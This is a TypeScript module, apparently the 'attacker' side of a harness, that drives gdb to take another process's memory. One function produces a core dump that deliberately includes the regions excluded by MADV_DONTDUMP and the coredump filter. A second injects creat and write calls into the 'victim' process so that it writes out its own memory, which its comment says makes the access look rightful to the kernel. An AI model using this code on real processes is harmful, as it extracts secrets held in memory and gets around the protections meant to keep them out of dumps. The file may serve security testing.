import { existsSync } from 'node:fs'
import { run } from './attacker'

/** null where gdb did what it was told, else why not. */
export type GdbFailure = { reason: string; errno: string | null } | null

async function gdb(pid: number, commands: readonly string[], result: string): Promise<GdbFailure> {
  // -nx and no auto-load: nothing of the user's own configuration runs.
  const options = ['-nx', '-q', '-batch', '-iex', 'set auto-load off', '-p', String(pid)]
  const { stdout, stderr, missing } = await run('gdb', [...options, ...commands.flatMap((line) => ['-ex', line])])
  if (missing) return { reason: 'gdb is not installed', errno: null }
  if (existsSync(result)) return null
  const said = `${stderr}\n${stdout}`
  if (/Operation not permitted/.test(said)) return { reason: 'gdb may not attach', errno: 'EPERM' }
  return { reason: `gdb did not do it: ${stderr.trim().split('\n').at(-1) ?? ''}`, errno: null }
}

/** What `gcore -a` does: dumps also what MADV_DONTDUMP and the coredump_filter exclude. */
export function dumpByGdb(pid: number, path: string): Promise<GdbFailure> {
  const everything = ['set use-coredump-filter off', 'set dump-excluded-mappings on']
  return gdb(pid, [...everything, `generate-core-file ${path}`], path)
}

/** Makes the victim itself write its memory to a file: to the kernel it is the victim's own, rightful access. */
export function writeByInjectedCode(
  pid: number,
  path: string,
  ranges: readonly { start: bigint; length: bigint }[],
): Promise<GdbFailure> {
  const writes = ranges.map(({ start, length }) => `print (long)write($fd, 0x${start.toString(16)}, ${length})`)
  return gdb(pid, [`set $fd = (int)creat("${path}", 0600)`, ...writes, 'print (int)close($fd)'], path)
}
